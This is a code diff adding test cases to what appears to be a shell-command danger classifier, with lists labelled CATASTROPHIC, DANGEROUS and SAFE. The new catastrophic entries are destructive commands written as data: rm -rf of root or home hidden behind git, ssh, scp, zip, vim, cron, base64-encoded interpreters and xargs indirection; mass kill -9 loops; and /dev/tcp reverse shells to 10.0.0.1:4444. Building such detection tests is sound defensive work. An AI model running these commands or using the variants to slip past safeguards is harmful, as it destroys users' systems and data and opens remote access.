@@ -197,7 +197,59 @@ INDIRECTION = [
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
 ]
 
-CATASTROPHIC = GIT + VARIABLES + OPTIONS + SCRIPTS + INDIRECTION
+RUN_LATER_AND_VARIANTS = [
+    "git clone 'ext::sh -c rm% -rf% /' x",
+    "git -c protocol.ext.allow=always fetch 'ext::sh -c rm% -rf% ~'",
+    "ssh -F /dev/stdin host <<< 'ProxyCommand rm -rf /'",
+    "ssh -F <(echo 'Host *\n  ProxyCommand rm -rf ~') host",
+    "scp -S 'rm -rf /' notes.txt host:",
+    "zip -T -TT='rm -rf /' x.zip notes.txt",
+    "at -f /dev/stdin now <<< 'rm -rf /'",
+    "expect -c 'spawn bash; send \"rm -rf /\\r\"; interact'",
+    "LESS='+!rm -rf /' less notes.txt",
+    "echo 'rm -rf ~' >> ~/.bashrc",
+    "echo '* * * * * root rm -rf /' > /etc/cron.d/wipe",
+    "printf 'rm -rf /\\n' > /etc/cron.hourly/x",
+    "perl -MMIME::Base64 -e 'eval(decode_base64(\"c3lzdGVtKCJybSAtcmYgLyIp\"))'",
+    "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnLycp').decode())\"",
+    "python3 -c \"import os;os.system(__import__('zlib').decompress(__import__('base64').b64decode('eJwrylXQLUpT0AcAC50CVA==')).decode())\"",
+    "node -e \"eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgLyIp','base64').toString())\"",
+    "Rscript -e 'system2(\"rm\", c(\"-rf\", \"/\"))'",
+    "lua -e 'os.execute(\"rm -rf \" .. os.getenv(\"HOME\"))'",
+    "node -e \"require('child_process').execSync('rm -rf ' + require('os').homedir())\"",
+    "sh -c \"$(</dev/stdin)\" <<< 'rm -rf /'",
+    "for p in $(pgrep -v init); do kill -9 $p; done",
+    "pgrep . | xargs kill -9",
+    "killall -9 -r .",
+    "ps -A -o pid | tail -n +2 | xargs kill -9",
+    "btrfs subvolume list / | awk '{print $NF}' | xargs -I{} btrfs subvolume delete /{}",
+    "kubectl debug node/x -it --image=ubuntu -- bash -c 'chroot /host rm -rf /'",
+    "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
+    "rm -rf ${PWD::1}",
+    "rm -rf ${HOME::1}",
+    "cd; rm -rf ../*",
+    "rm -rf ~/../..",
+    "rm -rf $HOME/../../",
+    "echo / | xargs -i rm -rf {}",
+    "xargs -d '\\n' rm -rf <<< /",
+    "echo 'rm -rf /' | xargs -I % sh -c %",
+    "printf '%s\\n' / | xargs rm -rf",
+    "parallel -j1 'rm -rf {}' ::: /",
+    "export P='rm -rf /'; git --config-env=core.pager=P log",
+    "vim -c 'exe \"!rm -rf /\"'",
+    "nvim -c 'lua os.execute(\"rm -rf /\")'",
+    "vim -c 'py3 import os; os.system(\"rm -rf /\")'",
+    "gdb -batch -ex 'pipe info registers | rm -rf /'",
+    "osascript <<< 'do shell script \"rm -rf ~\"'",
+    "GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf /'\" git log",
+    "env BASH_ENV=/dev/stdin bash -c : <<< 'rm -rf /'",
+    "crontab <<< '* * * * * rm -rf /'",
+    "echo '@daily rm -rf ~' | sudo crontab -u root -",
+    "tclsh <<< 'eval exec rm -rf /'",
+    "ssh -o 'LocalCommand=rm -rf /' -o PermitLocalCommand=yes host",
+]
+
+CATASTROPHIC = GIT + VARIABLES + OPTIONS + SCRIPTS + INDIRECTION + RUN_LATER_AND_VARIANTS
 
 DANGEROUS = [
     "git -c core.pager='delta' log",
@@ -228,6 +280,10 @@ DANGEROUS = [
     "docker exec ctr rm -rf /",
     "parallel 'gzip {}' ::: a.log b.log",
     "cat < /dev/tcp/time.example/13 'x",
+    "echo 'export EDITOR=vim' >> ~/.bashrc",
+    "echo '0 3 * * * /usr/local/bin/backup' | crontab -",
+    "echo '* * * * * root /usr/bin/true' > /etc/cron.d/noop",
+    "killall -r 'pyth.*'",
 ]
 
 SAFE = [
